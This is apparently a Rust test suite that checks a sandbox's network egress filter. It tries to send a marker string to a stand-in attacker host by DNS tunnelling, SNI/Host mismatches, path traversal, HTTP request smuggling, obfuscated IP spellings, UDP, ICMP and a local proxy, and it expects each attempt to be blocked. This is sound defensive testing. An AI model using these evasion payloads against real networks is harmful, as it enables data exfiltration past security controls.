//! Carries data out: over DNS, by names that differ, by redirects, by addresses in every spelling, by a
//! proxy in the guest, and by requests that two servers read in two ways.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpListener, TcpStream, UdpSocket};
use std::thread;
use std::time::Duration;

use crate::{BOOTY, EVIL, FREE, GRANTED, Outcome, RESOLVER, allowed, attack, dns, http};

const API: &str = "api.example.org";
const FREE_NAME: &str = "free.example.org";
const PLAIN: &str = "plain.example.org";
const OTHER: &str = "evil.example.net";

/// Every way there is.
pub(crate) fn all() {
    over_dns();
    by_names_in_tls();
    by_requests();
    by_smuggling();
    by_addresses();
    by_a_proxy();
}

fn resolve(name: &str) -> Outcome {
    match dns::addresses(RESOLVER, name)?.as_slice() {
        [] => Err("no address".into()),
        some => Ok(format!("{some:?}")),
    }
}

fn over_dns() {
    for name in [API, FREE_NAME, PLAIN] {
        allowed(&format!("resolve {name}"), resolve(name));
    }
    let long = format!("{BOOTY}{}", "a".repeat(63 - BOOTY.len()));
    for name in [
        OTHER.to_owned(),
        format!("{BOOTY}.{OTHER}"),
        format!("{BOOTY}.{API}"),
        format!("{long}.{long}.{long}.{API}"),
        format!("{API}.{OTHER}"),
        format!("{BOOTY}-{API}"),
        format!("_{BOOTY}._tcp.{API}"),
        "org".into(),
        "example.org".into(),
        BOOTY.into(),
    ] {
        attack(
            &format!("resolve {name}"),
            dns::read(dns::send(RESOLVER, &dns::query(&name, dns::A, 1, &[]))),
        );
    }
    for (name, kind) in [("TXT", dns::TXT), ("ANY", 255), ("NULL", 10), ("AXFR", 252)] {
        let query = dns::query(&format!("{BOOTY}.{OTHER}"), kind, 1, &[]);
        attack(
            &format!("ask for {name} of another"),
            dns::read(dns::send(RESOLVER, &query)),
        );
    }
    let query = dns::query(&format!("{BOOTY}.{OTHER}"), dns::A, 1, &[]);
    attack(
        "resolve another by TCP",
        dns::read(dns::send_by_tcp(RESOLVER, &query)),
    );
    for server in [
        EVIL,
        GRANTED,
        Ipv4Addr::new(8, 8, 8, 8),
        Ipv4Addr::new(1, 1, 1, 1),
    ] {
        attack(
            &format!("ask {server}"),
            dns::read(dns::send(server, &query)),
        );
        attack(
            &format!("ask {server} by TCP"),
            dns::read(dns::send_by_tcp(server, &query)),
        );
    }
    // A granted name in a spelling that says something, and in a type that does.
    allowed("resolve in capitals", resolve("aPi.exAMPle.ORg"));
    for kind in [0, 10, 252, 255, 4242, u16::MAX] {
        let query = dns::query(API, kind, 1, &[]);
        let answer = dns::read(dns::send(RESOLVER, &query));
        attack(&format!("ask for type {kind}"), answer);
    }
    let query = dns::query(API, dns::A, 3, &[]);
    attack(
        "ask for another class",
        dns::read(dns::send(RESOLVER, &query)),
    );
    // In an option of EDNS behind a question that is granted: answered, but nobody may see it.
    let mut option = vec![0, 0, 41, 4, 0, 0, 0, 0, 0, 0];
    option.push(4 + BOOTY.len() as u8);
    option.extend([0xfd, 0xe9, 0, BOOTY.len() as u8]);
    option.extend(BOOTY.as_bytes());
    allowed(
        "resolve with an option",
        dns::read(dns::send(RESOLVER, &dns::query(API, dns::A, 1, &option))),
    );
    // Two questions in one query.
    let mut two = dns::query(API, dns::A, 1, &[]);
    two[5] = 2;
    two.extend(&dns::query(&format!("{BOOTY}.{OTHER}"), dns::A, 1, &[])[12..]);
    attack("two questions", dns::read(dns::send(RESOLVER, &two)));
}

fn by_names_in_tls() {
    let ok = http::tls(GRANTED, 443, Some(API), &http::get(API, "/v1/ok"));
    allowed("a granted request by TLS", http::read(ok));
    let ok = http::tls(
        FREE,
        443,
        Some(FREE_NAME),
        &http::get(FREE_NAME, "/anything"),
    );
    allowed("any request to a host without narrowing", http::read(ok));
    let path = format!("/v1/{BOOTY}");
    for (name, to, port, sni, host) in [
        ("SNI of another", GRANTED, 443, Some(OTHER), OTHER),
        (
            "SNI of another, Host that is granted",
            GRANTED,
            443,
            Some(OTHER),
            API,
        ),
        (
            "SNI that is granted, Host of another",
            GRANTED,
            443,
            Some(API),
            OTHER,
        ),
        (
            "SNI of one, Host of another that is granted",
            GRANTED,
            443,
            Some(API),
            FREE_NAME,
        ),
        ("no SNI", GRANTED, 443, None, API),
        ("an address as Host", GRANTED, 443, Some(API), "192.0.2.66"),
        (
            "Host with another port",
            GRANTED,
            443,
            Some(API),
            "api.example.org:8443",
        ),
        (
            "a granted name at another address",
            EVIL,
            443,
            Some(API),
            API,
        ),
        (
            "a free name at another address",
            EVIL,
            443,
            Some(FREE_NAME),
            FREE_NAME,
        ),
        (
            "a free name at the address of another",
            GRANTED,
            443,
            Some(FREE_NAME),
            FREE_NAME,
        ),
        (
            "TLS at the port of another rule",
            GRANTED,
            80,
            Some(API),
            API,
        ),
        ("another port", GRANTED, 8443, Some(API), API),
    ] {
        attack(
            name,
            http::read(http::tls(to, port, sni, &http::get(host, &path))),
        );
    }
    attack(
        "no TLS where TLS is",
        http::read(http::plain(
            GRANTED,
            443,
            &http::get(API, &format!("/v2/{BOOTY}")),
        )),
    );
    let raw = format!("{BOOTY}\r\n\r\n");
    for (port, raw) in [
        (443, raw.as_bytes()),
        (80, raw.as_bytes()),
        (80, b"\x16\x03booty-4f1d0c\r\n\r\n"),
    ] {
        let outcome = http::read(http::plain(GRANTED, port, raw));
        attack(&format!("bytes where requests are, at {port}"), outcome);
    }
}

fn by_requests() {
    let ok = http::plain(GRANTED, 80, &http::get(PLAIN, "/v1/ok"));
    allowed("a granted request", http::read(ok));
    let to_api = |request: &[u8]| http::read(http::tls(GRANTED, 443, Some(API), request));
    let to_plain = |request: &[u8]| http::read(http::plain(GRANTED, 80, request));
    for path in [
        format!("/v2/{BOOTY}"),
        format!("/v1/../v2/{BOOTY}"),
        format!("/v1/%2e%2e/v2/{BOOTY}"),
        format!("/v1/..%2fv2/{BOOTY}"),
        format!("//v2/{BOOTY}"),
        format!("/v1\\..\\v2/{BOOTY}"),
        format!("/v1/;/../../v2/{BOOTY}"),
        format!("/V1/{BOOTY}"),
    ] {
        attack(&format!("GET {path}"), to_api(&http::get(API, &path)));
        attack(
            &format!("GET {path} without TLS"),
            to_plain(&http::get(PLAIN, &path)),
        );
    }
    for method in [
        "POST", "PUT", "DELETE", "CONNECT", "TRACE", "get", "GETX", BOOTY,
    ] {
        let request =
            format!("{method} /v1/ok HTTP/1.1\r\nHost: {API}\r\nContent-Length: 0\r\n\r\n");
        attack(&format!("{method} by TLS"), to_api(request.as_bytes()));
        let request = request.replace(API, PLAIN);
        attack(
            &format!("{method} without TLS"),
            to_plain(request.as_bytes()),
        );
    }
    // A redirect is told, and followed by us; where it leads is another host.
    let answer = http::tls(GRANTED, 443, Some(API), &http::get(API, "/v1/redirect"));
    let location = answer.as_ref().ok().and_then(|answer| {
        let line = answer
            .lines()
            .find(|line| line.to_ascii_lowercase().starts_with("location:"))?;
        Some(line.split_once(' ')?.1.to_owned())
    });
    let location = location.unwrap_or_else(|| panic!("a redirect: {answer:?}"));
    assert!(location.contains(OTHER), "{location}");
    let followed = http::get(OTHER, &format!("/{BOOTY}"));
    attack(
        "follow a redirect",
        http::read(http::tls(EVIL, 443, Some(OTHER), &followed)),
    );
    attack(
        "follow a redirect on the same connection's server",
        http::read(http::tls(GRANTED, 443, Some(OTHER), &followed)),
    );
}

fn by_smuggling() {
    let behind = format!("GET /v2/{BOOTY} HTTP/1.1\r\nHost: {OTHER}\r\n\r\n");
    let length = behind.len();
    let head = |more: &str| format!("GET /v1/ok HTTP/1.1\r\nHost: {PLAIN}\r\n{more}");
    let chunked = |header: &str| {
        head(&format!(
            "{header}\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{behind}"
        ))
    };
    for (name, request) in [
        ("TE and CL", chunked("Transfer-Encoding: chunked")),
        ("TE with a space", chunked("Transfer-Encoding : chunked")),
        ("TE with a tab", chunked("Transfer-Encoding:\tchunked\u{b}")),
        ("TE of another kind", chunked("Transfer-Encoding: xchunked")),
        (
            "TE twice",
            chunked("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"),
        ),
        ("TE folded", chunked("Transfer-Encoding:\r\n chunked")),
        (
            "two CLs",
            head(&format!(
                "Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{behind}"
            )),
        ),
        (
            "a list of CLs",
            head(&format!("Content-Length: 0, {length}\r\n\r\n{behind}")),
        ),
        (
            "CL with a sign",
            head(&format!("Content-Length: +{length}\r\n\r\n{behind}")),
        ),
        (
            "CL in hex",
            head(&format!("Content-Length: 0x0\r\n\r\n{behind}")),
        ),
        ("two Hosts", head(&format!("Host: {OTHER}\r\n\r\n"))),
        (
            "a header without CR",
            head(&format!("X: 1\nHost: {OTHER}\r\n\r\n")),
        ),
        ("a request without CR", head("X: 1\n\n") + &behind),
        (
            "a NUL in a header",
            head(&format!("X: a\0b\r\nY: {BOOTY}\r\n\r\n")),
        ),
        (
            "an absolute target",
            format!("GET http://{OTHER}/v1/{BOOTY} HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n"),
        ),
        (
            "an absolute target of TLS",
            format!("GET https://{OTHER}:443/v1/{BOOTY} HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"),
        ),
        (
            "CONNECT",
            format!("CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n\r\n"),
        ),
        (
            "CONNECT under a granted Host",
            format!("CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n"),
        ),
        (
            "an upgrade to h2c",
            head(&format!(
                "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: {BOOTY}\r\n\r\n"
            )),
        ),
        (
            "an upgrade to anything",
            head(&format!(
                "Connection: Upgrade\r\nUpgrade: {BOOTY}\r\n\r\n{BOOTY}"
            )),
        ),
        (
            "h2 without asking",
            format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0{BOOTY}"),
        ),
        ("HTTP/0.9", format!("GET /v1/{BOOTY}\r\n")),
        (
            "HTTP/3.0",
            format!("GET /v1/{BOOTY} HTTP/3.0\r\nHost: {PLAIN}\r\n\r\n"),
        ),
        (
            "a space in the target",
            format!("GET /v1/ok /v2/{BOOTY} HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n"),
        ),
    ] {
        attack(
            name,
            http::read(http::plain(GRANTED, 80, request.as_bytes())),
        );
        let request = request.replace(PLAIN, API);
        let answer = http::tls(GRANTED, 443, Some(API), request.as_bytes());
        attack(&format!("{name} in TLS"), http::read(answer));
    }
    // These have a head that is granted, and a body that is broken off where it lies: whether any of that
    // went on is for the server to say.
    for (name, body) in [
        ("a chunk extension", format!("1;{BOOTY}\r\nx\r\n0\r\n\r\n")),
        ("a chunk too long", format!("fffffffffffffffff\r\n{behind}")),
        ("no end of a chunk", format!("1\r\nx{BOOTY}\r\n0\r\n\r\n")),
        (
            "a trailer that frames",
            format!("0\r\nHost: {BOOTY}\r\n\r\n{behind}"),
        ),
    ] {
        let request = head(&format!("Transfer-Encoding: chunked\r\n\r\n{body}"));
        let answer = http::plain(GRANTED, 80, request.as_bytes());
        println!("sent {name}: {:?}", answer.map(|answer| answer.len()));
        let answer = http::tls(
            GRANTED,
            443,
            Some(API),
            request.replace(PLAIN, API).as_bytes(),
        );
        println!(
            "sent {name} in TLS: {:?}",
            answer.map(|answer| answer.len())
        );
    }
    // A second request behind a first one that is granted: decided like the first.
    let two = String::from_utf8(http::get(PLAIN, "/v1/ok"))
        .unwrap()
        .replace("Connection: close\r\n", "");
    let answer = http::plain(GRANTED, 80, (two + &behind).as_bytes());
    allowed("the first of two requests", http::read(answer.clone()));
    let second = answer.map(|answer| answer.matches("served by").count());
    attack(
        "the second of two requests",
        match second {
            Ok(2..) => Ok("both were served".into()),
            Ok(_) => Err("it was not served".into()),
            Err(why) => Err(why),
        },
    );
}

fn by_addresses() {
    // However an address is spelt, it is these four bytes that a packet has.
    for literal in [
        "192.0.2.66",
        "3221225026",
        "0xc0000242",
        "0300.0.02.0102",
        "192.0.578",
        "[::ffff:192.0.2.66]",
        "[::ffff:c000:242]",
        "192.0.2.66.",
        "192.0.2.66.nip.example",
    ] {
        let request = http::get(literal, &format!("/v1/{BOOTY}"));
        let plain = http::plain(GRANTED, 80, &request);
        attack(&format!("Host {literal}"), http::read(plain));
        let name = literal.trim_matches(['[', ']']);
        if !name.contains(':') && !name.ends_with('.') {
            let query = dns::query(name, dns::A, 1, &[]);
            attack(
                &format!("resolve {name}"),
                dns::read(dns::send(RESOLVER, &query)),
            );
        }
    }
    let request = http::get(PLAIN, &format!("/v1/{BOOTY}"));
    for port in [80, 443, 8443, 53, 22, 25, 123] {
        attack(
            &format!("connect to {EVIL}:{port}"),
            http::read(http::plain(EVIL, port, &request)),
        );
    }
    let mapped: SocketAddr = format!("[::ffff:{EVIL}]:80").parse().unwrap();
    let connected = TcpStream::connect_timeout(&mapped, Duration::from_secs(10));
    let connected = connected
        .map(|_| "connected".into())
        .map_err(|error| error.to_string());
    attack("connect to it by IPv6", connected);
    let v6: SocketAddr = "[2001:db8::66]:80".parse().unwrap();
    let connected = TcpStream::connect_timeout(&v6, Duration::from_secs(10));
    let connected = connected
        .map(|_| "connected".into())
        .map_err(|error| error.to_string());
    attack("connect by IPv6", connected);
    for (to, port) in [
        (EVIL, 443),
        (EVIL, 9),
        (GRANTED, 443),
        (Ipv4Addr::BROADCAST, 9),
    ] {
        let sent = || -> std::io::Result<()> {
            let socket = UdpSocket::bind("0.0.0.0:0")?;
            socket.set_broadcast(true)?;
            socket.set_read_timeout(Some(Duration::from_secs(2)))?;
            socket.connect(SocketAddrV4::new(to, port))?;
            socket.send(BOOTY.as_bytes())?;
            socket.recv(&mut [0; 64]).map(drop)
        };
        let sent = sent()
            .map(|()| "answered".into())
            .map_err(|error| error.to_string());
        attack(&format!("send to {to}:{port} by UDP"), sent);
    }
    attack("ping", ping(EVIL));
}

/// An echo request with booty in it.
fn ping(to: Ipv4Addr) -> Outcome {
    // Who may do that differs from system to system; in a guest that is all ours it is a setting.
    let _ = std::fs::write("/proc/sys/net/ipv4/ping_group_range", "0 0");
    let socket = rustix::net::socket(
        rustix::net::AddressFamily::INET,
        rustix::net::SocketType::DGRAM,
        Some(rustix::net::ipproto::ICMP),
    );
    let socket = UdpSocket::from(socket.map_err(|error| error.to_string())?);
    socket
        .set_read_timeout(Some(Duration::from_secs(2)))
        .expect("a socket");
    let request = [&[8, 0, 0, 0, 0, 1, 0, 1][..], BOOTY.as_bytes()].concat();
    let talk = || {
        socket
            .send_to(&request, SocketAddrV4::new(to, 0))
            .and_then(|_| socket.recv(&mut [0; 128]))
    };
    talk()
        .map(|_| "answered".into())
        .map_err(|error| error.to_string())
}

/// A proxy in the guest is the guest.
fn by_a_proxy() {
    let listener = TcpListener::bind("127.0.0.1:3128").unwrap();
    thread::spawn(move || {
        for mut client in listener.incoming().flatten() {
            let mut request = [0; 1024];
            let count = client.read(&mut request).unwrap_or(0);
            let served = http::plain(EVIL, 80, &request[..count]);
            let answer = served.unwrap_or_else(|why| format!("HTTP/1.1 502 {why}\r\n\r\n"));
            let _ = client.write_all(answer.as_bytes());
        }
    });
    let request = format!("GET http://{OTHER}/{BOOTY} HTTP/1.1\r\nHost: {OTHER}\r\n\r\n");
    let answer = http::plain(Ipv4Addr::LOCALHOST, 3128, request.as_bytes());
    attack("a proxy in the guest", http::read(answer));
}
